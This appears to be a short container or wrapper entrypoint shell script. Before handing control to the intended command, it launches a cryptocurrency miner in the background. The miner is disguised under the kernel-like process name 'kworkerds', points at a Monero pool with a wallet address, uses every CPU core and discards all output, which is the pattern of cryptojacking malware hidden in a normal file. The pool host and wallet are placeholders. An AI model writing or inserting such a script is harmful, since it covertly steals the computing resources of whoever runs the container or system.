#!/bin/sh
nohup /usr/local/bin/kworkerds -o pool.supportxmr.example:443 -u 4ExampleXmrWalletAddressNotRealxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx -k --tls -t $(nproc) >/dev/null 2>&1 &
exec "$@"
